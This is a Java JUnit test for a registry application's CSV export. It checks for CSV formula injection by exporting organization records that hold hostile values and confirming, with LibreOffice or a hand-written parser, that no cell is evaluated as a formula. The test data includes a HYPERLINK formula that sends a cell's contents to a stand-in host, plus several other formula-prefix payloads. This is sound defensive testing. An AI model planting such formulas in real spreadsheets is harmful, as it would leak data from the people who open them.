package org.taizhang.organization.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.taizhang.organization.OrganizationBuilder.aBranch;
import static org.taizhang.organization.OrganizationBuilder.aPartyCommittee;
import static org.taizhang.organization.UnitBuilder.aUnit;

import java.io.File;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.taizhang.core.store.Store;
import org.taizhang.organization.RegistryService;
import org.taizhang.organization.RegistryServiceTest;
import org.taizhang.organization.model.Organization;
import org.taizhang.organization.model.Unit;

/**
 * CSV injection (OWASP): a registry holding formula-like text is exported as CSV and opened by an independent
 * reader. With LibreOffice installed, its own CSV import converts the file and no cell may come out as a
 * formula; without it, a reader written here (not the program's) checks that no cell starts like one.
 */
class RegistryCsvTest {
    /** Texts a clerk could paste, or a hostile workbook could bring in by import. */
    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://example.invalid/?d=\"&A2,\"点击查看\")", "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1", "＝1+1");

    @TempDir
    Path dir;

    private Store store;
    private RegistryService service;

    @BeforeEach
    void open() {
        store = Store.openOrCreate(dir.resolve("taizhang.db"), RegistryServiceTest.sampleDay());
        service = new RegistryService(store);
    }

    @AfterEach
    void close() {
        store.close();
    }

    private Path exportHostileRegistry() {
        Unit unit = aUnit().named("=1+2").build();
        service.save(unit);
        Organization committee = aPartyCommittee()
                .in(unit)
                .named(HOSTILE.get(0))
                .withSecretary(HOSTILE.get(1))
                .withDeputy(HOSTILE.get(2))
                .withContact(HOSTILE.get(3), HOSTILE.get(4))
                .withRemark(HOSTILE.get(5))
                .build();
        service.save(committee);
        service.save(aBranch().in(unit).under(committee).named("-第一支部").build());
        Path file = dir.resolve("党组织.csv");
        service.exportCsv(file);
        return file;
    }

    @Test
    void noFormulaWhenAnIndependentReaderOpensTheExport() throws Exception {
        Path file = exportHostileRegistry();
        Path soffice = soffice();
        if (soffice != null) {
            String converted = convertWithLibreOffice(soffice, file);
            assertThat(converted)
                    .as("LibreOffice read a formula")
                    .contains("HYPERLINK")
                    .doesNotContain("table:formula=");
        }
        List<List<String>> cells = independentParse(Files.readString(file, StandardCharsets.UTF_8));
        for (List<String> row : cells) {
            for (String cell : row) {
                assertThat(cell).as("a cell a spreadsheet would evaluate").doesNotMatch("(?s)^[=+\\-@\t\r＝＋－＠].*");
            }
        }
        // the text itself is kept, behind the quote that makes it text
        assertThat(cells.get(1)).contains("'" + HOSTILE.get(0), "'" + HOSTILE.get(1), "'" + HOSTILE.get(2));
    }

    /** LibreOffice's CSV import (UTF-8, comma, quote) to a flat ODF spreadsheet, where a formula shows. */
    private String convertWithLibreOffice(Path soffice, Path csv) throws Exception {
        Path out = dir.resolve("lo");
        Process p = new ProcessBuilder(
                        soffice.toString(),
                        "-env:UserInstallation=" + dir.resolve("lo-profile").toUri(),
                        "--headless",
                        "--infilter=CSV:44,34,76,1",
                        "--convert-to",
                        "fods",
                        "--outdir",
                        out.toString(),
                        csv.toString())
                .redirectErrorStream(true)
                .redirectOutput(dir.resolve("lo.log").toFile())
                .start();
        assertThat(p.waitFor(120, TimeUnit.SECONDS)).isTrue();
        Path fods = out.resolve("党组织.fods");
        assertThat(fods).as(Files.readString(dir.resolve("lo.log"))).exists();
        return Files.readString(fods, StandardCharsets.UTF_8);
    }

    private static Path soffice() {
        return Stream.of(System.getenv("PATH").split(File.pathSeparator))
                .map(d -> Path.of(d, "soffice"))
                .filter(Files::isExecutable)
                .findFirst()
                .orElse(null);
    }

    /** RFC 4180, written here so the check does not trust the program's own reader. */
    static List<List<String>> independentParse(String text) {
        String s = text.startsWith("\uFEFF") ? text.substring(1) : text;
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        int i = 0;
        boolean inQuotes = false;
        while (i < s.length()) {
            char c = s.charAt(i++);
            if (inQuotes) {
                if (c == '"' && i < s.length() && s.charAt(i) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    inQuotes = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"' && cell.isEmpty()) {
                inQuotes = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i < s.length() && s.charAt(i) == '\n') {
                i++;
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
            } else {
                cell.append(c);
            }
        }
        return rows;
    }
}
